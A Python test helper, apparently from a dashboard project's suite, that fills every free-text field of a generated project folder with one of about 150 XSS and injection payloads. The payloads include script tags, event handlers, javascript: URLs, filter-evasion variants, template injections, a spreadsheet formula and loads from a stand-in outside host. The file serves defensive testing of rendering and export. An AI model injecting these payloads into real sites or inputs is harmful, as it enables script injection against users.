"""A project of which every text is a script, or would be one if it were drawn as anything but text."""

from collections.abc import Sequence
from itertools import chain, cycle, product
from pathlib import Path
from typing import Any

from dashboard.exchange.folder.export import write_folder
from dashboard.exchange.folder.format import Kind
from dashboard.exchange.folder.read import read_folder
from dashboard.exchange.folder.tables import PHASE_COLUMNS, PROJECT_COLUMNS, TABLES
from tests.exchange.folder_builder import SMALL, write_files

ELSEWHERE = "https://elsewhere.example"
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe",
    "object",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "embed src=x",
    "link rel=x href=x",
    "form",
    "button",
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onpageshow", "onmouseover", "onanimationstart")
WHOLE = (
    "<script>alert(1)</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css'; * {{ background: url({ELSEWHERE}/x.png) }}</style>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><button autofocus>x</button></form>",
    f"![x]({ELSEWHERE}/x.png)",
    f"![x][1]\n\n[1]: {ELSEWHERE}/x.png",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    f"$\\includegraphics{{{ELSEWHERE}/x.png}}$",
    ":material/{alert(1)}: :red[<script>alert(1)</script>]",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} `${alert(1)}` #{alert(1)}",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<ſcript>alert(1)</ſcript>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x onerror=\talert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xss style='animation:x 1s' onanimationend=alert(1)>",
    '=HYPERLINK("javascript:alert(1)","x")',
)
SCRIPTS = (*WHOLE, *(f"<{tag} {handler}=alert(1)>x" for tag, handler in product(TAGS, HANDLERS)))[:150]
OUR_WORDS = {"value": "facts", "key": "translations"}
"""Texts whose form the format prescribes, by file."""


def write_hostile_folder(path: Path, scripts: Sequence[str]) -> Path:
    """A folder like ``SMALL`` with a life of its deliverables; every free text is one of ``scripts``, in turn."""
    folder, problems = read_folder(write_files(path / "plain", SMALL))
    assert folder is not None
    assert problems == []
    content = folder.content()
    content["project"][0]["rules"]["review"] = {"criteria": [{"code": "AIM", "name": scripts[0]}]}
    content["project"][0]["rules"]["unit_costs"][0]["name"] = scripts[1 % len(scripts)]
    _add_life(content)
    words = cycle(scripts)
    columns = {table.name: table.columns for table in TABLES} | {"project": PROJECT_COLUMNS, "phases": PHASE_COLUMNS}
    for name, rows in content.items():
        free = [column for column in columns[name] if column.kind == Kind.TEXT and OUR_WORDS.get(column.name) != name]
        for row, column in product(rows, free):
            if column.name == "source" or column.name.endswith("_by") or column.name == "answers_author":
                continue
            if column.name == "author":
                row[column.name] = next(words)[: column.length]
            else:
                row[column.name] = f"{next(words)} {column.name}"[: column.length]
    content["remarks"][0]["author"] = scripts[0][:60]
    for request in content["budget_requests"]:
        request["scenario_author"] = content["scenarios"][0]["author"]
    write_folder(content, path / "hostile")
    return path / "hostile"


def _add_life(content: dict[str, list[dict[str, Any]]]) -> None:
    moments = [row["recorded_at"] for row in content["deliverable_history"]]
    owner, later = {"phase": "one", "deliverable": "D2.1"}, max(moments)
    said = {"source": "a leaflet", "status": "verified"}
    review = {"round": 1, "opened_at": later, "reviewer": "x", "organisation": "TOWN", "closed_at": later}
    content["reviews"] = [{**owner, **review, "outcome": "sent_back", "remarks": "", **said}]
    score = {"round": 1, "criterion": "AIM", "score": 2, "remark": ""}
    content["review_scores"] = [{**owner, **score, **said}]
    yes = {
        "kind": "confirmed",
        "recorded_at": later,
        "day": later.date(),
        "reference": "",
        "comment": "",
        "author": "x",
    }
    content["acceptances"] = [{**owner, **yes, "withdrawn_at": None, "withdrawn_by": None, **said}]
    request = {"recorded_at": later, "kind": "cancel", "old_due": None, "new_due": None, "reason": "", "author": "x"}
    undecided = {"decision": None, "decided_at": None, "decided_by": None, "answer": None}
    content["change_requests"] = [{**owner, **request, **undecided, **said}]
    remark = {"at": later, "author": "x", "organisation": None, "text": "", "answers_at": None, "answers_author": None}
    gone = {"mentions": [], "removed_at": None, "removed_by": None}
    content["remarks"] = [{**owner, **remark, **gone, **said}]


def in_turn(scripts: Sequence[str], size: int) -> list[Sequence[str]]:
    """Each script at each of the first ``size`` places once, over as many folders."""
    return [list(chain(scripts[start:], scripts[:start])) for start in range(0, len(scripts), size)]
